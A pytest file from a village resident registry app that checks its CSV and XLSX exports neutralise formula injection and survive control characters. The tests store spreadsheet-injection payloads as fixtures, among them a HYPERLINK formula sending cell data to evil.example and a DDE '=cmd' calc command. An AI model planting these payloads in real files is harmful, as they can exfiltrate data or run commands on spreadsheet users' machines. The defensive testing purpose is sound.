"""Residents' exports (pages, API, the job's and CLI's writer) with hostile or broken text already
stored in the database: a formula in a name, a control character in an address. Written directly
into the database (input validation would refuse some of it today), then exported."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from smart_government.registry import exporting
from smart_government.registry.models import Resident

from desacerdas.tenancy import tenant_session

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
PHONE = "+6281234567890"
BAD_ADDRESS = "Jalan\u000bBaru\x1f No. 1"  # PostgreSQL stores no NUL: other controls


def store_hostile(app, v) -> None:  # noqa: ANN001
    """The kinds of text an export meets in a real database."""
    with app.app_context(), tenant_session(v.id) as s:
        wayan = s.get(Resident, (v.id, v.residents["wayan"]))
        wayan.name = FORMULA
        wayan.address = BAD_ADDRESS
        wayan.occupation = "@SUM(1+1)"
        kadek = s.get(Resident, (v.id, v.residents["kadek"]))
        kadek.birth_place = PHONE
        kadek.address = "-1+1;=cmd|' /C calc'!A0"
        s.commit()


def by_column(header: list, rows: list[list]) -> list[dict]:
    return [dict(zip(header, row, strict=False)) for row in rows]


def check_csv(data: str) -> None:
    rows = list(csv.reader(io.StringIO(data)))
    people = {r["nik"]: r for r in by_column(rows[0], rows[1:])}
    values = [c for r in people.values() for c in r.values()]
    assert "'" + FORMULA in values and FORMULA not in values
    assert "Jalan Baru  No. 1" in values
    assert "'@SUM(1+1)" in values and "'" + PHONE in values
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in values)
    # a spreadsheet that splits on semicolons keeps the quoted address as one cell
    for line in data.splitlines()[1:]:
        assert all(not c.startswith(("=", "+", "-", "@")) for c in next(csv.reader([line], delimiter=";")))


def check_xlsx(data: bytes) -> None:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    formula_like = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@"))]
    assert {c.value for c in formula_like} == {FORMULA, PHONE, "@SUM(1+1)", "-1+1;=cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like)
    assert "Jalan Baru  No. 1" in {c.value for c in cells}


def test_page_exports_neutralise_formulas_and_survive_control_characters(
    app, pop_menanga, menanga, make_user, login
):
    v = pop_menanga
    store_hostile(app, v)
    client = login(make_user("operator", menanga))
    resp = client.get(v.page("residents/export?format=csv"))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    check_csv(resp.get_data(as_text=True))
    resp = client.get(v.page("residents/export?format=xlsx"))
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    check_xlsx(resp.data)


def test_api_exports_neutralise_formulas_and_survive_control_characters(
    app, pop_menanga, menanga, make_user, bearer, client
):
    v = pop_menanga
    store_hostile(app, v)
    headers = bearer(make_user("operator", menanga))
    resp = client.get(v.api("residents/export?format=csv"), headers=headers)
    assert resp.status_code == 200
    check_csv(resp.get_data(as_text=True))
    resp = client.get(v.api("residents/export?format=xlsx"), headers=headers)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    check_xlsx(resp.data)


def test_the_job_and_cli_writer_is_the_same(app, pop_menanga, tmp_path):
    """``exporting.export`` is what the export job and ``flask smart_government export`` write with."""
    v = pop_menanga
    store_hostile(app, v)
    with app.app_context(), tenant_session(v.id) as s:
        assert exporting.export(s, tmp_path / "r.csv") == 3
        assert exporting.export(s, tmp_path / "r.xlsx") == 3
    check_csv((tmp_path / "r.csv").read_text(encoding="utf-8"))
    check_xlsx((tmp_path / "r.xlsx").read_bytes())


def test_another_villages_hostile_rows_never_appear(
    app, pop_menanga, pop_bebandem, bebandem, make_user, login
):
    store_hostile(app, pop_menanga)
    client = login(make_user("operator", bebandem))
    body = client.get(pop_bebandem.page("residents/export?format=csv")).get_data(as_text=True)
    assert "HYPERLINK" not in body and "Jalan Baru" not in body
    assert client.get(pop_menanga.page("residents/export?format=xlsx")).status_code == 404
